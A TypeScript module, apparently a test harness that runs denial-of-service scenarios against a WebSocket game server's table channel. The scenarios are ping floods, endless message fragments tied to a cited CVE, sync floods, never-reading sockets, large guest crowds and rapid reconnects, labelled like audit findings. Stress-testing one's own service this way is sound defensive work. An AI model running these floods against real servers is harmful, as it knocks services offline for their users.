import type { WebSocket } from 'ws';
import { ME, OPEN, type Raider } from './raider.ts';

/** Calls `act` for each open socket in turn, as often as the attackers' share allows. */
async function drive(
  raider: Raider,
  { sockets, dial, everyMs }: { sockets: number; dial: () => WebSocket; everyMs: number },
  act: (socket: WebSocket, round: number) => void,
): Promise<void> {
  const open = new Set<WebSocket>();
  for (let round = 0; !raider.isOver; round++) {
    for (const socket of open) {
      if (socket.readyState > socket.OPEN) open.delete(socket);
      else if (socket.readyState === socket.OPEN) act(socket, round);
      await raider.options.share.breathe();
    }
    // An attacker that is thrown out comes again.
    for (let missing = Math.min(10, sockets - open.size); missing > 0; missing--) open.add(dial());
    await raider.pause(everyMs);
  }
}

async function openTable(raider: Raider): Promise<string> {
  return (await raider.setTable([ME, OPEN])) ?? '';
}

/** Pings, and never reads what comes back (C2). */
export async function unreadPongs(raider: Raider): Promise<void> {
  const table = await openTable(raider);
  const dial = (): WebSocket => {
    const socket = raider.dial(table);
    socket.on('open', () => socket.pause());
    return socket;
  };
  const payload = Buffer.alloc(125);
  await drive(raider, { sockets: 10, dial, everyMs: 20 }, (socket) => {
    for (let sent = 0; sent < 200; sent++) socket.ping(payload);
  });
}

/** One message in tiny pieces, without end (CVE-2026-48779). */
export async function tinyFragments(raider: Raider): Promise<void> {
  const table = await openTable(raider);
  await drive(raider, { sockets: 10, dial: () => raider.dial(table), everyMs: 50 }, (socket) => {
    for (let sent = 0; sent < 50; sent++) socket.send('', { fin: false });
  });
}

/** The whole table again and again, by as many sockets as an address may have. */
export async function syncFlood(raider: Raider): Promise<void> {
  const table = await openTable(raider);
  await drive(raider, { sockets: 90, dial: () => raider.dial(table), everyMs: 50 }, (socket) =>
    socket.send('{"type":"sync","seq":0}'),
  );
}

/** Sockets that ask for much and read nothing. */
export async function neverReads(raider: Raider): Promise<void> {
  const table = await openTable(raider);
  const dial = (): WebSocket => {
    const socket = raider.dial(table);
    socket.on('open', () => socket.pause());
    return socket;
  };
  await drive(raider, { sockets: 30, dial, everyMs: 60 }, (socket) => socket.send('{"type":"sync","seq":0}'));
}

const ONLOOKERS_AN_ADDRESS = 90;
const ADDRESSES = 5;
const GUESTS_AN_ADDRESS = 50;

/** Hundreds of known onlookers at one table, all of whom look away and back (H5). */
export async function popularTable(raider: Raider): Promise<void> {
  const table = await openTable(raider);
  const crowds = Array.from({ length: ADDRESSES }, (_, at) => raider.at(`198.51.100.${at + 1}`));
  await Promise.all(
    crowds.map(async (crowd) => {
      const guests = Array.from({ length: GUESTS_AN_ADDRESS }, () => crowd.companion());
      for (const guest of guests) await guest.post('/api/me', {});
      let next = 0;
      const dial = (): WebSocket => (guests[next++ % guests.length] ?? crowd).dial(table);
      await drive(crowd, { sockets: ONLOOKERS_AN_ADDRESS, dial, everyMs: 1000 }, (socket, round) =>
        socket.send(JSON.stringify({ type: 'look', at: round % 2 === 0 ? 'elsewhere' : 'table' })),
      );
    }),
  );
}

/** Comes and goes at its own seat, so that everybody there is told (C3). */
export async function comingAndGoing(raider: Raider): Promise<void> {
  const table = await openTable(raider);
  const dial = (): WebSocket => {
    const socket = raider.dial(table);
    socket.on('message', () => socket.terminate());
    return socket;
  };
  await drive(raider, { sockets: 20, dial, everyMs: 50 }, () => undefined);
}
